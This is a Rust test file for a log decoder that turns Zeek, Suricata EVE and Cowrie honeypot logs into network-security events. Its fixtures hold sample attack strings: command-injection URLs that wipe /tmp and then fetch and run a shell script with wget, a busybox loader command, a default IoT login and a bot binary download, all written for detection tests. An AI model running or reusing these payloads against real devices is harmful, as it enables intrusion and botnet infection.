//! Logs of other tools give the events that they stand for; bad lines cost themselves only.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

use model::{
    Event, EventKind, FlowUpdate, HoneypotAct, LoginOutcome, Outcome, Severity, Tactic, TransferKind,
    Visibility,
};
use observe::logs::{LogDecoder, LogFormat};
use proptest::prelude::*;

fn read(format: LogFormat, lines: &[&str]) -> (Vec<Event>, Vec<String>) {
    let mut decoder = LogDecoder::new(format, 3);
    let (mut events, mut errors) = (Vec::new(), Vec::new());
    for (number, line) in (1..).zip(lines) {
        if let Err(error) = decoder.line(number, line.as_bytes(), &mut |event| events.push(event)) {
            errors.push(error.reason);
        }
    }
    (events, errors)
}

fn flows(events: &[Event]) -> Vec<&FlowUpdate> {
    events
        .iter()
        .filter_map(|event| match &event.kind {
            EventKind::Flow(flow) => Some(flow),
            _ => None,
        })
        .collect()
}

const FIELDS: &str = "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents   label   detailed-label";

fn conn(proto: &str, state: &str, history: &str, packets: (&str, &str)) -> String {
    format!(
        "1545403816.962094\tCx1\t10.0.0.5\t41040\t192.0.2.9\t80\t{proto}\t-\t3.5\t0\t0\t{state}\t-\t-\t0\t{history}\t{}\t180\t{}\t0\t-   Benign   -",
        packets.0, packets.1
    )
}

#[test]
fn zeek_states_and_histories_become_outcomes() {
    use Outcome::{Established, HalfOpen, Refused, Silent, Unknown};
    use Visibility::{Both, OneWay};
    let check =
        |proto: &str, state: &str, history: &str, packets: (&str, &str), expected: (Outcome, Visibility)| {
            let line = conn(proto, state, history, packets);
            let (events, errors) = read(LogFormat::ZeekTsv, &["#separator \\x09", FIELDS, &line]);
            assert_eq!(errors, Vec::<String>::new());
            let flow = flows(&events)[0];
            assert_eq!((flow.outcome, flow.visibility), expected, "{proto} {state} {history}");
        };
    check("tcp", "S0", "S", ("3", "0"), (Silent, Both));
    check("tcp", "S0", "SAD", ("5", "0"), (Unknown, OneWay));
    check("tcp", "REJ", "Sr", ("1", "1"), (Refused, Both));
    check("tcp", "SF", "ShADadfF", ("9", "8"), (Established, Both));
    check("tcp", "S1", "Sh", ("1", "1"), (HalfOpen, Both));
    check("tcp", "RSTO", "ShR", ("2", "1"), (HalfOpen, Both));
    check("tcp", "RSTO", "ShADR", ("5", "2"), (Established, Both));
    check("tcp", "RSTR", "ShAdDr", ("5", "4"), (Established, Both));
    check("tcp", "RSTOS0", "SR", ("2", "0"), (Silent, Both));
    check("tcp", "RSTRH", "^hr", ("0", "2"), (Unknown, OneWay));
    check("tcp", "SHR", "^hf", ("0", "2"), (Unknown, OneWay));
    check("tcp", "OTH", "DdA", ("4", "4"), (Established, Both));
    check("tcp", "OTH", "Ar", ("1", "1"), (Refused, Both));
    // Packets with wrong check sums are in the history only.
    check("tcp", "OTH", "C", ("0", "0"), (Silent, Both));
    check("udp", "S0", "D", ("1", "0"), (Silent, Both));
    check("udp", "SF", "Dd", ("1", "1"), (Established, Both));
    check("udp", "SHR", "^d", ("0", "7"), (Unknown, OneWay));
    check("tcp", "SF", "-", ("9", "8"), (Established, Both));
    check("tcp", "REJ", "-", ("-", "-"), (Refused, Both));
    check("tcp", "S0", "-", ("-", "-"), (Silent, Both));
}

#[test]
fn zeek_counts_flags_and_times_are_kept() {
    let lines = [
        "#separator \\x09",
        FIELDS,
        &conn("tcp", "S0", "S", ("3", "0")),
        &conn("tcp", "OTH", "CCC", ("0", "0")),
    ];
    let (events, _) = read(LogFormat::ZeekTsv, &lines);
    let flows = flows(&events);
    let (first, second) = (flows[0], flows[1]);
    assert_eq!(first.first.micros(), 1_545_403_816_962_094);
    assert_eq!(first.last.micros_since(first.first), 3_500_000);
    assert_eq!((first.total.syns, first.total.packets_out, first.total.bytes_out), (3, 3, 180));
    assert_eq!((first.flags_out, first.flags_in), (2, 0));
    assert_eq!(events[0].at, first.first);
    assert_eq!((second.total.packets_out, second.total.syns), (3, 0));
    assert_eq!((first.id >> 40, first.id != second.id), (3, true));
}

#[test]
fn what_is_unreachable_answers_whoever_is_told_so() {
    let line = conn("icmp", "OTH", "-", ("4", "0")).replace("41040", "3").replace("\t80\t", "\t3\t");
    let (events, _) = read(LogFormat::ZeekTsv, &["#separator \\x09", FIELDS, &line]);
    let flow = flows(&events)[0];
    assert_eq!((flow.key.src.to_string(), flow.key.dst.to_string()), ("192.0.2.9".into(), "10.0.0.5".into()));
    assert_eq!((flow.total.packets_out, flow.total.packets_in), (0, 4));
    assert_eq!((flow.outcome, flow.visibility), (Outcome::Refused, Visibility::OneWay));
}

#[test]
fn silence_means_nothing_where_answers_pass_out_of_sight() {
    let mut lines = vec!["#separator \\x09".to_owned(), FIELDS.to_owned()];
    for host in 1..20 {
        lines.push(conn("tcp", "OTH", "SAD", ("5", "0")).replace("192.0.2.9", &format!("192.0.2.{host}")));
    }
    lines.push(conn("tcp", "S0", "S", ("1", "0")));
    let (events, _) = read(LogFormat::ZeekTsv, &lines.iter().map(String::as_str).collect::<Vec<_>>());
    let last = flows(&events).last().copied().unwrap().clone();
    assert_eq!((last.outcome, last.visibility), (Outcome::Unknown, Visibility::OneWay));
}

#[test]
fn zeek_headers_drive_the_columns_and_bad_lines_cost_themselves_only() {
    let lines = [
        "#separator |",
        "#set_separator|,",
        "#unset_field|~",
        "#path|conn",
        "#fields|proto|id.resp_h|id.resp_p|ts|id.orig_h|history|uid",
        "tcp|2001:db8::1|443|7|2001:db8::2|Sr|CaX",
        "tcp|2001:db8::1|443|7|not an address|Sr|CaX",
        "tcp|2001:db8::1|443|soon|2001:db8::2|Sr|CaX",
        "warp|2001:db8::1|443|7|2001:db8::2|Sr|CaX",
        "tcp|2001:db8::1",
        "udp|2001:db8::1|53|8|2001:db8::2|Dd|CaY",
    ];
    let (events, errors) = read(LogFormat::ZeekTsv, &lines);
    assert_eq!(
        flows(&events).iter().map(|flow| flow.outcome).collect::<Vec<_>>(),
        [Outcome::Refused, Outcome::Established]
    );
    assert_eq!(
        errors,
        [
            "field id.orig_h is not an IP address",
            "field ts is not seconds since the Unix epoch",
            "field proto is not a transport's name",
            "field ts is missing",
        ]
    );
    let (events, errors) = read(LogFormat::ZeekTsv, &["#path\tdns", "#fields\tts\tuid\tquery", "1\tC\tx"]);
    assert!(events.is_empty() && errors[0].contains("conn.log") && errors[1].contains("#fields"));
}

#[test]
fn zeek_json_is_read_with_either_time() {
    let lines = [
        r#"{"ts":1545403816.962094,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":1,"id.resp_h":"192.0.2.9","id.resp_p":23,"proto":"tcp","conn_state":"S0","history":"S","orig_pkts":2,"service":"ssl,http"}"#,
        r#"{"ts":"2018-12-21T14:50:16.962094Z","uid":"C2","id_orig_h":"10.0.0.5","id_orig_p":1,"id_resp_h":"192.0.2.9","id_resp_p":23,"proto":"tcp","conn_state":"S0","orig_bytes":"many"}"#,
        r#"{"_path":"dns","ts":1}"#,
        "not json",
        "[]",
    ];
    let (events, errors) = read(LogFormat::ZeekJson, &lines);
    let flows = flows(&events);
    assert_eq!(flows.len(), 2);
    assert_eq!(flows[0].first, flows[1].first);
    assert_eq!(flows[0].service, model::Service::Tls);
    assert_eq!(
        errors,
        ["header _path: expected conn", "line is not a JSON object", "line is not a JSON object"]
    );
}

#[test]
fn formats_are_recognised_by_content() {
    let check =
        |start: &str, expected| assert_eq!(LogDecoder::recognise(start.as_bytes()), expected, "{start}");
    check("#separator \\x09\n", Some(LogFormat::ZeekTsv));
    check("\u{feff}#fields\tts", Some(LogFormat::ZeekTsv));
    check("\n{\"ts\":1,\"id.orig_h\":\"10.0.0.1\"}", Some(LogFormat::ZeekJson));
    check("{\"timestamp\":\"\",\"event_type\":\"flow\"}", Some(LogFormat::Eve));
    check("{\"eventid\":\"cowrie.session.connect\"}", Some(LogFormat::Cowrie));
    check("{\"a\":1}", None);
    check("", None);
    check("ts,uid,id.orig_h", None);
}

fn eve(kind: &str, rest: &str) -> String {
    format!(
        r#"{{"timestamp":"2021-06-06T15:59:46.457984+0200","flow_id":7,"event_type":"{kind}","src_ip":"192.0.2.1","src_port":51698,"dest_ip":"10.0.0.5","dest_port":445,"proto":"TCP",{rest}}}"#
    )
}

#[test]
fn eve_flows_become_outcomes() {
    let check = |ts: &str, tc: &str, packets: (u32, u32), expected: (Outcome, Visibility)| {
        let line = eve(
            "flow",
            &format!(
                r#""flow":{{"pkts_toserver":{},"pkts_toclient":{},"bytes_toserver":600,"bytes_toclient":120,"start":"2021-06-06T15:50:00.000000+0200","end":"2021-06-06T15:50:02.000000+0200","state":"new"}},"tcp":{{"tcp_flags_ts":"{ts}","tcp_flags_tc":"{tc}"}}"#,
                packets.0, packets.1
            ),
        );
        let (events, errors) = read(LogFormat::Eve, &[&line]);
        assert_eq!(errors, Vec::<String>::new());
        let flow = flows(&events)[0];
        assert_eq!((flow.outcome, flow.visibility), expected, "{ts} {tc}");
        assert_eq!(flow.last.micros_since(flow.first), 2_000_000);
        assert_eq!(events[0].at, flow.first);
    };
    use Outcome::{Established, HalfOpen, Refused, Silent, Unknown};
    use Visibility::{Both, OneWay};
    check("02", "14", (1, 1), (Refused, Both));
    check("02", "12", (1, 1), (HalfOpen, Both));
    check("06", "12", (2, 1), (HalfOpen, Both));
    check("1b", "1b", (9, 9), (Established, Both));
    check("1e", "16", (9, 9), (Established, Both));
    check("02", "00", (3, 0), (Silent, Both));
    check("1a", "00", (3, 0), (Unknown, OneWay));
    check("00", "12", (0, 3), (Unknown, OneWay));
    check("00", "00", (2, 2), (Refused, Both));
}

fn alert(extra: &str, flow: &str) -> String {
    eve(
        "alert",
        &format!(
            r#"{extra}"app_proto":"smb","alert":{{"signature_id":1,"signature":"ET EXPLOIT a thing","category":"Attempted Administrator Privilege Gain","severity":1}},"flow":{{"pkts_toserver":3,"pkts_toclient":2{flow}}}"#
        ),
    )
}

#[test]
fn a_reset_is_no_conversation() {
    let check = |line: String, expected: bool| {
        let (events, _) = read(LogFormat::Eve, &[&line]);
        let answered = events.iter().any(|event| match &event.kind {
            EventKind::Alert(alert) => alert.answered,
            _ => false,
        });
        assert_eq!(answered, expected, "{line}");
    };
    check(alert("", ""), true);
    check(alert("", "").replace("smb", "failed"), false);
    check(alert("", "").replace(r#""app_proto":"smb","#, ""), false);
    check(alert("", "").replace(r#""proto":"TCP""#, r#""proto":"UDP""#), false);
}

#[test]
fn eve_alerts_run_from_originator_to_responder() {
    let key_of = |lines: &[&str]| {
        let (events, errors) = read(LogFormat::Eve, lines);
        assert_eq!(errors, Vec::<String>::new());
        let alert = events
            .iter()
            .find_map(|event| match &event.kind {
                EventKind::Alert(alert) => Some(alert.clone()),
                _ => None,
            })
            .unwrap();
        assert!(alert.answered);
        assert_eq!((alert.severity, alert.tactic), (Severity::High, Some(Tactic::InitialAccess)));
        alert.key.src.to_string()
    };
    let (sender, receiver) = ("192.0.2.1", "10.0.0.5");
    assert_eq!(key_of(&[&alert("", "")]), sender);
    assert_eq!(key_of(&[&alert(r#""direction":"to_server","#, "")]), sender);
    assert_eq!(key_of(&[&alert(r#""direction":"to_client","#, "")]), receiver);
    assert_eq!(key_of(&[&alert("", r#","src_ip":"10.0.0.5","src_port":445"#)]), receiver);
    // A reply by its ports, where nothing else tells.
    let reply = alert("", "").replace("51698", "80").replace(":445", ":51698");
    assert_eq!(key_of(&[&reply]), receiver);
    // An earlier record of the flow tells.
    let http = eve("http", r#""http":{"http_method":"GET","url":"/"}"#)
        .replace("192.0.2.1", "§")
        .replace("10.0.0.5", "192.0.2.1")
        .replace('§', "10.0.0.5")
        .replace("51698", "¤")
        .replace("445", "51698")
        .replace('¤', "445");
    assert_eq!(key_of(&[&http, &alert("", "")]), receiver);
    // The rule's own word on who attacks comes first.
    let told = alert(r#""direction":"to_server","#, "").replace(
        r#""signature_id":1"#,
        r#""signature_id":1,"source":{"ip":"10.0.0.5","port":445},"target":{"ip":"192.0.2.1","port":51698}"#,
    );
    assert_eq!(key_of(&[&told]), receiver);
}

#[test]
fn eve_protocols_become_events() {
    let kinds = |line: String| {
        read(LogFormat::Eve, &[&line]).0.into_iter().map(|event| event.kind).collect::<Vec<_>>()
    };
    let dns = |rest: &str| match kinds(eve("dns", rest)).remove(0) {
        EventKind::Dns(dns) => dns,
        other => panic!("{other:?}"),
    };
    let old = dns(r#""dns":{"type":"query","rrname":"WWW.Example.COM","rrtype":"AAAA"}"#);
    assert_eq!((old.response, old.name.as_str(), old.qtype, old.rcode), (false, "www.example.com", 28, 0));
    let answer = dns(
        r#""dns":{"version":2,"type":"answer","rrname":"a.example","rrtype":"A","rcode":"NXDOMAIN","answers":[{"rdata":"192.0.2.7"},{"rdata":"b.example"}],"grouped":{"A":["192.0.2.7","192.0.2.8"]}}"#,
    );
    assert_eq!((answer.response, answer.rcode, answer.answers.len()), (true, 3, 2));
    let new =
        dns(r#""dns":{"version":3,"type":"request","queries":[{"rrname":"c.example","rrtype":"TXT"}]}"#);
    assert_eq!((new.name.as_str(), new.qtype), ("c.example", 16));

    let elf = kinds(eve(
        "fileinfo",
        r#""app_proto":"http","http":{"http_method":"GET"},"fileinfo":{"magic":"ELF 32-bit LSB executable, ARM"}"#,
    ));
    match &elf[0] {
        EventKind::Transfer(transfer) => {
            assert_eq!((transfer.kind, transfer.to.to_string().as_str()), (TransferKind::Elf, "10.0.0.5"));
            assert_eq!(transfer.key.src, transfer.to);
        }
        other => panic!("{other:?}"),
    }
    let login = |rest: &str| {
        kinds(eve("ftp", rest)).iter().find_map(|kind| match kind {
            EventKind::Login(login) => Some(login.outcome),
            _ => None,
        })
    };
    assert_eq!(login(r#""ftp":{"command":"PASS","completion_code":["530"]}"#), Some(LoginOutcome::Refused));
    assert_eq!(login(r#""ftp":{"command":"PASS","completion_code":["230"]}"#), Some(LoginOutcome::Accepted));
    assert_eq!(login(r#""ftp":{"command":"USER"}"#), None);
    assert_eq!(
        kinds(eve(
            "ssh",
            r#""ssh":{"client":{"software_version":"Go"},"server":{"software_version":"dropbear"}}"#
        ))
        .len(),
        3
    );
    let injected = |url: &str| {
        let http = format!(r#""http":{{"http_method":"GET","url":"{url}","status":404}}"#);
        kinds(eve("http", &http)).iter().any(|kind| matches!(kind, EventKind::Transfer(_)))
    };
    assert!(injected("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.1/x.sh;sh+x.sh"));
    assert!(injected("/a?b=%60%2Fbin%2Fbusybox%20wget%20http://198.51.100.1/x%60"));
    assert!(!injected("/docs/wget.html?page=1"));
    assert!(kinds(eve("stats", r#""stats":{}"#)).is_empty());
}

#[test]
fn cowrie_tells_what_a_visitor_did_and_keeps_no_secret() {
    let line = |event: &str, rest: &str| {
        format!(
            r#"{{"eventid":"cowrie.{event}","src_ip":"192.0.2.1","session":"s1","timestamp":"2019-12-03T03:29:04.584737Z"{rest}}}"#
        )
    };
    let lines = [
        line("session.connect", r#","dst_ip":"10.0.0.2","dst_port":2222,"protocol":"ssh""#),
        line("login.failed", r#","username":"root","password":"never-seen-secret""#),
        line("login.success", r#","username":"root","password":"vizxv""#),
        line("command.input", r#","input":"/bin/busybox SATORI""#),
        line("command.input", r#","input":"ls -la""#),
        line("session.file_download", r#","url":"http://198.51.100.9:8080/bot.arm""#),
        line("direct-tcpip.request", r#","dst_ip":"example.com","dst_port":80"#),
        line("client.kex", ""),
        line("session.closed", ""),
    ];
    let (events, errors) = read(LogFormat::Cowrie, &lines.iter().map(String::as_str).collect::<Vec<_>>());
    assert_eq!(errors, Vec::<String>::new());
    assert!(!format!("{events:?}").contains("secret") && !format!("{events:?}").contains("ls -la"));
    let acts: Vec<_> = events
        .iter()
        .map(|event| match &event.kind {
            EventKind::Honeypot(honeypot) => {
                assert_eq!((honeypot.server.to_string().as_str(), honeypot.port), ("10.0.0.2", 2222));
                assert_eq!(honeypot.service, model::Service::Ssh);
                honeypot.act.clone()
            }
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(acts.len(), 7);
    assert_eq!((&acts[0], &acts[1]), (&HoneypotAct::Connected, &HoneypotAct::Refused(None)));
    assert!(
        matches!(&acts[2], HoneypotAct::Accepted(Some(entry)) if !entry.contains("vizxv")),
        "{:?}",
        acts[2]
    );
    assert!(matches!(acts[3], HoneypotAct::Command { loader: true, .. }));
    assert!(matches!(acts[4], HoneypotAct::Command { loader: false, .. }));
    assert_eq!(acts[5], HoneypotAct::Download("198.51.100.9".parse().ok()));
    assert_eq!(acts[6], HoneypotAct::Relay);
}

#[test]
fn counters_that_cannot_be_are_not_believed() {
    let most = u64::MAX.to_string();
    let line = conn("tcp", "SF", "ShADadfF", (&most, &most)).replace("180", &most);
    let (events, _) = read(LogFormat::ZeekTsv, &["#separator \\x09", FIELDS, &line]);
    let total = flows(&events)[0].total;
    assert!(total.packets_out < 1 << 50 && total.bytes_out < 1 << 50);
    let counters =
        format!(r#""flow":{{"pkts_toserver":{most},"pkts_toclient":{most},"bytes_toserver":{most}}}"#);
    let (events, _) = read(LogFormat::Eve, &[&eve("flow", &counters)]);
    assert!(flows(&events)[0].total.bytes_out < 1 << 50);
}

proptest! {
    #[test]
    fn no_line_panics(line in proptest::collection::vec(any::<u8>(), 0..400)) {
        for format in [LogFormat::ZeekTsv, LogFormat::ZeekJson, LogFormat::Eve, LogFormat::Cowrie] {
            let mut decoder = LogDecoder::new(format, 0);
            let _ = decoder.line(1, FIELDS.as_bytes(), &mut |_| {});
            let _ = decoder.line(2, &line, &mut |_| {});
            let _ = LogDecoder::recognise(&line);
        }
    }

    #[test]
    fn shifted_times_shift_flows_by_as_much(secs in 0i64..4_000_000_000, micros in 0i64..1_000_000) {
        let line = conn("tcp", "SF", "ShADadfF", ("9", "8"))
            .replace("1545403816.962094", &format!("{secs}.{micros:06}"));
        let (events, _) = read(LogFormat::ZeekTsv, &["#separator \\x09", FIELDS, &line]);
        prop_assert_eq!(events[0].at.micros(), secs * 1_000_000 + micros);
    }
}
